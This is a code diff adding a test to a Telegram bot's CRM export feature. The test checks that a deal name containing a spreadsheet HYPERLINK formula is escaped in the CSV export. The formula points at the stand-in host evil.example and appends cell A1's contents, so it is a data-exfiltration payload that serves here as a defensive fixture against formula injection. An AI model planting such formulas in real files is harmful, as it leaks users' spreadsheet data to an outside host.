@@ -3,6 +3,7 @@ built, then the .xlsx as a document (deals and their stage history)."""
 
 from __future__ import annotations
 
+import csv
 import io
 
 from aiogram.methods import DeleteMessage, EditMessageText, SendDocument, SendMessage
@@ -70,3 +71,16 @@ async def test_export_button_and_refusal(harness, make_actor, uow_factory):
     assert len(refused.of(SendMessage)) == 1  # no progress message either
     forged = await harness.tap(tg_user(meg.telegram_id, lang="en"), ExportCb())
     assert forged.alert == "⚠️ Access denied." and not forged.of(SendMessage)
+
+
+async def test_export_csv_command(harness, make_actor, uow_factory):
+    boss = await make_actor(roles=("leader",), name="Lee")
+    ann = await make_actor(roles=("manager",), name="Ann")
+    deal = await new_deal(uow_factory, ann, name='=HYPERLINK("http://evil.example/?"&A1,"Open")')
+    sent = await harness.send(tg_user(boss.telegram_id, lang="en"), "/export csv")
+    [doc] = sent.of(SendDocument)
+    assert doc.document.filename.endswith(".csv")
+    rows = list(csv.reader(io.StringIO(doc.document.data.decode("utf-8-sig")), delimiter=";"))
+    assert rows[0][:2] == ["ID", "Deal"]
+    assert rows[1][0] == str(deal.id)
+    assert rows[1][6] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'
